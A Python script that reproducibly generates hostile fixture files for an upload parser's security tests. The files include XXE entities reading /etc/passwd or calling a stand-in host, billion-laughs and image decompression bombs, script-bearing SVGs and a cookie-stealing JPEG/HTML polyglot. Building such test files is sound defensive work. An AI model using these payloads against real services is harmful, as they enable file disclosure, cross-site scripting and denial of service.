"""Writes the committed hostile files under tests/hostile/files/, reproducibly.

Run `python -m tests.hostile.make_files` from the repository root. Every file is built from
fixed bytes or from seeded inputs, so running it again gives the same files. Files whose size
would make the repository heavy (over-the-cap uploads, zip bombs) are built at test time by
tests/hostile/test_hostile_uploads.py instead.

Files that must reach a server name it `http://HOSTILE-ORIGIN`; the tests put the address of
a loopback server there, to count the requests a parser makes.
"""

import base64
import datetime
import io
import re
import struct
import zlib
from pathlib import Path

from fontTools import subset
from fontTools.ttLib import TTFont
from PIL import Image

from tests import samples

FILES = Path(__file__).parent / "files"
ORIGIN = "http://HOSTILE-ORIGIN"
INTER = Path(__file__).parents[2] / "backend/monogram/fonts/library/inter/Inter-Regular.otf"
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="20mm" height="20mm" viewBox="0 0 20 20"'
RECT = '<rect x="2" y="2" width="16" height="16" fill="#003366"/>'


def svg(body, attrs="", head=""):
    return f'{head}{SVG_OPEN} xmlns:xlink="http://www.w3.org/1999/xlink"{attrs}>{body}</svg>\n'.encode()


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width, height, bit_depth=1, rows=None):
    """A greyscale PNG of width × height whose rows are zeros: `rows` of them, all by default."""
    row = b"\x00" * (1 + (width * bit_depth + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height if rows is None else rows))
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", data + compressor.flush())
        + chunk(b"IEND", b"")
    )


def jpeg_declaring(width, height):
    """A real JPEG's tables with its frame header claiming width × height, then cut short."""
    data = bytearray(samples.jpeg(16, 16))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    start = data.index(b"\xff\xda")
    return bytes(data[: start + 40])


def webp_declaring(width, height):
    """A lossless WebP of 1 × 1 whose VP8L header claims width × height."""
    out = io.BytesIO()
    Image.new("RGB", (1, 1), (0, 0, 0)).save(out, "WEBP", lossless=True)
    data = bytearray(out.getvalue())
    vp8l = data.index(b"VP8L") + 8
    assert data[vp8l] == 0x2F  # the VP8L signature byte
    bits = struct.unpack_from("<I", data, vp8l + 1)[0]
    bits = (bits & ~0x0FFFFFFF) | (width - 1) | ((height - 1) << 14)
    struct.pack_into("<I", data, vp8l + 1, bits)
    return bytes(data)


def tiff_declaring(width, height):
    """A little-endian TIFF, bilevel, one strip of deflated zeros, claiming width × height."""
    strip = zlib.compress(b"\x00" * 4096, 9)
    entries = [
        (256, 4, 1, width),  # ImageWidth
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 1),  # BitsPerSample
        (259, 3, 1, 8),  # Compression: Adobe deflate
        (262, 3, 1, 0),  # PhotometricInterpretation: white is zero
        (273, 4, 1, 0),  # StripOffsets, patched below
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, height),  # RowsPerStrip
        (279, 4, 1, len(strip)),  # StripByteCounts
    ]
    ifd_offset = 8
    strip_offset = ifd_offset + 2 + 12 * len(entries) + 4
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        value = strip_offset if tag == 273 else value
        packed = struct.pack("<H", value) + b"\x00\x00" if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    return b"II*\x00" + struct.pack("<I", ifd_offset) + ifd + b"\x00\x00\x00\x00" + strip


def flipped(data, offset, mask):
    data = bytearray(data)
    data[offset] ^= mask
    return bytes(data)


def small_ttf():
    """Vera with only the glyphs of "Mono": a complete, valid TrueType font of a few KB."""
    return _subset(samples.VERA, "Mono")


def small_otf():
    """Inter (CFF outlines) with only the glyphs of "Mono"."""
    return _subset(INTER, "Mono")


def _subset(path, text):
    font = TTFont(path, recalcTimestamp=False)
    options = subset.Options()
    options.name_IDs = ["*"]
    options.drop_tables += ["DSIG", "GPOS", "GSUB", "GDEF"]
    subsetter = subset.Subsetter(options)
    subsetter.populate(text=text)
    subsetter.subset(font)
    out = io.BytesIO()
    font.save(out)
    return out.getvalue()


def with_flavor(data, flavor):
    font = TTFont(io.BytesIO(data), recalcTimestamp=False)
    font.flavor = flavor
    out = io.BytesIO()
    font.save(out)
    return out.getvalue()


def table_span(data, tag):
    """(offset, length) of a table in a plain TTF/OTF."""
    count = struct.unpack_from(">H", data, 4)[0]
    for index in range(count):
        found, _, offset, length = struct.unpack_from(">4sIII", data, 12 + 16 * index)
        if found == tag:
            return offset, length
    raise KeyError(tag)


def smashed(data, tag, filler=b"\xff"):
    """The font with one table's bytes overwritten; its checksum left stale, as damage does."""
    offset, length = table_span(data, tag)
    return data[:offset] + filler * length + data[offset + length :]


def zip_archive():
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("payload/run.sh", date_time=(2020, 1, 1, 0, 0, 0))
        archive.writestr(info, "#!/bin/sh\necho polyglot\n")
    return out.getvalue()


def files():
    """{file name: bytes} of every committed hostile file."""
    png = samples.png(64, 48)
    jpeg = samples.jpeg(64, 48)
    webp = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 30)).save(webp, "WEBP", lossless=True)
    webp = webp.getvalue()
    tiff = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 30)).save(tiff, "TIFF", compression="tiff_deflate")
    tiff = tiff.getvalue()
    inner_script_svg = svg(RECT + "<script>alert(document.domain)</script>")
    ttf, otf = small_ttf(), small_otf()
    woff = with_flavor(ttf, "woff")
    woff2 = with_flavor(ttf, "woff2")
    glyf_offset, _ = table_span(ttf, b"glyf")
    lol = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    return {
        # SVG: entities, scripts and fetching
        "xxe-file.svg": svg(
            '<text x="1" y="10">&xxe;</text>',
            head='<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        ),
        "xxe-http.svg": svg(
            '<text x="1" y="10">&xxe;</text>',
            head=f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "{ORIGIN}/xxe">]>\n',
        ),
        "xxe-parameter-entity.svg": svg(
            RECT,
            head='<?xml version="1.0"?>\n'
            f'<!DOCTYPE svg [<!ENTITY % dtd SYSTEM "{ORIGIN}/dtd"> %dtd;]>\n',
        ),
        "external-dtd.svg": svg(
            RECT, head=f'<?xml version="1.0"?>\n<!DOCTYPE svg SYSTEM "{ORIGIN}/svg11.dtd">\n'
        ),
        "billion-laughs.svg": svg(
            '<text x="1" y="10">&lol9;</text>',
            head=f'<?xml version="1.0"?>\n<!DOCTYPE svg [{lol}]>\n',
        ),
        "script.svg": svg(RECT + "<script>fetch('/v1/assets')</script>"),
        "script-prefixed.svg": (
            b'<s:svg xmlns:s="http://www.w3.org/2000/svg" width="20mm" height="20mm">'
            b'<s:rect width="5" height="5"/><s:script>alert(1)</s:script></s:svg>'
        ),
        "onload.svg": svg(RECT, attrs=' onload="alert(1)"'),
        "onclick-nested.svg": svg(f'<g><rect width="5" height="5" onClick="alert(1)"/></g>{RECT}'),
        "foreign-object.svg": svg(
            RECT
            + '<foreignObject width="20" height="20"><body xmlns="http://www.w3.org/1999/xhtml">'
            '<iframe src="javascript:alert(1)"/></body></foreignObject>'
        ),
        "href-http.svg": svg(RECT + f'<image href="{ORIGIN}/pixel.png" width="5" height="5"/>'),
        "href-file.svg": svg(
            RECT + '<image xlink:href="file:///etc/passwd" width="5" height="5"/>'
        ),
        "use-external.svg": svg(RECT + f'<use href="{ORIGIN}/sprite.svg#icon"/>'),
        "css-import.svg": svg(f"<style>@import url({ORIGIN}/style.css);</style>{RECT}"),
        "css-url-escaped.svg": svg(
            f'<rect width="5" height="5" style="fill: u\\72l({ORIGIN}/fill.png)"/>{RECT}'
        ),
        "javascript-link.svg": svg(f'<a href="javascript:alert(1)">{RECT}</a>'),
        "data-svg-in-svg.svg": svg(
            RECT
            + '<image width="5" height="5" href="data:image/svg+xml;base64,'
            + base64.b64encode(inner_script_svg).decode()
            + '"/>'
        ),
        "data-svg-as-png.svg": svg(
            RECT
            + '<image width="5" height="5" href="data:image/png;base64,'
            + base64.b64encode(inner_script_svg).decode()
            + '"/>'
        ),
        "data-png-bomb.svg": svg(
            RECT
            + '<image width="5" height="5" href="data:image/png;base64,'
            + base64.b64encode(png_declaring(65_535, 65_535, rows=64)).decode()
            + '"/>'
        ),
        # No size: an importer reads it from the picture, which must not be decoded.
        "data-png-bomb-unsized.svg": svg(
            RECT
            + '<image href="data:image/png;base64,'
            + base64.b64encode(png_declaring(65_535, 65_535, rows=64)).decode()
            + '"/>'
        ),
        # Rasters: decompression bombs, damage, polyglots
        "bomb-121mp.png": png_declaring(11_000, 11_000),
        "bomb-4gp.png": png_declaring(65_535, 65_535, rows=64),
        "bomb.jpg": jpeg_declaring(65_500, 65_500),
        "bomb.webp": webp_declaring(16_383, 16_383),
        "bomb.tiff": tiff_declaring(100_000, 100_000),
        "truncated.png": png[: len(png) // 2],
        "truncated.jpg": jpeg[: len(jpeg) // 2],
        "truncated.webp": webp[: len(webp) // 2],
        "truncated.tiff": tiff[: len(tiff) // 2],
        # The IHDR's width, with its CRC left as it was.
        "bitflip-header.png": flipped(png, 16 + 3, 0x40),
        # The frame header's sample precision: 8 becomes 24, which no decoder supports.
        "bitflip-header.jpg": flipped(jpeg, jpeg.index(b"\xff\xc0") + 4, 0x10),
        # The VP8L signature byte.
        "bitflip-header.webp": flipped(webp, webp.index(b"VP8L") + 8, 0x01),
        # The first IFD's offset points far past the end.
        "bitflip-header.tiff": flipped(tiff, 7, 0x40),
        "polyglot-png-zip.png": png + zip_archive(),
        "polyglot-jpeg-html.jpg": jpeg
        + b"<html><body><script>alert(document.cookie)</script></body></html>\n",
        # Fonts with broken tables
        "cmap-broken.ttf": smashed(ttf, b"cmap"),
        "glyf-broken.ttf": smashed(ttf, b"glyf", b"\x7f"),
        "head-broken.ttf": smashed(ttf, b"head", b"\x00"),
        "truncated.ttf": ttf[: glyf_offset + 10],
        "cff-broken.otf": smashed(otf, b"CFF ", b"\xfe"),
        "truncated.otf": otf[: len(otf) * 2 // 3],
        "cmap-broken.woff": with_flavor(smashed(ttf, b"cmap"), "woff"),
        "truncated.woff": woff[: len(woff) - 40],
        "truncated.woff2": woff2[: len(woff2) * 2 // 3],
        "tables-missing.ttf": _without_tables(ttf, {b"cmap", b"name"}),
        # Empty files
        "empty.svg": b"",
        "empty.png": b"",
        "empty.ttf": b"",
        "empty.csv": b"",
        # Batch data
        "binary.csv": b"name;city\n" + bytes(range(256)) * 4,
        "xxe.xlsx": _xlsx_with_doctype(),
    }


def _without_tables(data, tags):
    font = TTFont(io.BytesIO(data), recalcTimestamp=False)
    for tag in tags:
        del font[tag.decode()]
    out = io.BytesIO()
    font.save(out)
    return out.getvalue()


def _xlsx_with_doctype():
    """A workbook whose sheet declares an external entity and uses it in a cell."""
    import zipfile

    import openpyxl

    book = openpyxl.Workbook()
    book.properties.created = book.properties.modified = datetime.datetime(2020, 1, 1)
    book.active.append(["name", "city"])
    book.active.append(["Jeanne", "Lyon"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                # openpyxl stamps the save time; a fixed one keeps the file reproducible.
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2020-01-01T00:00:00Z", data)
            if b"Lyon" in data:
                data = data.replace(
                    b"?>",
                    f'?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "{ORIGIN}/xlsx">]>'.encode(),
                    1,
                ).replace(b"Lyon", b"&xxe;")
            fixed = zipfile.ZipInfo(info.filename, date_time=(2020, 1, 1, 0, 0, 0))
            target.writestr(fixed, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def main():
    FILES.mkdir(exist_ok=True)
    for name, data in files().items():
        (FILES / name).write_bytes(data)
    print(f"wrote {len(files())} files to {FILES}")


if __name__ == "__main__":
    main()
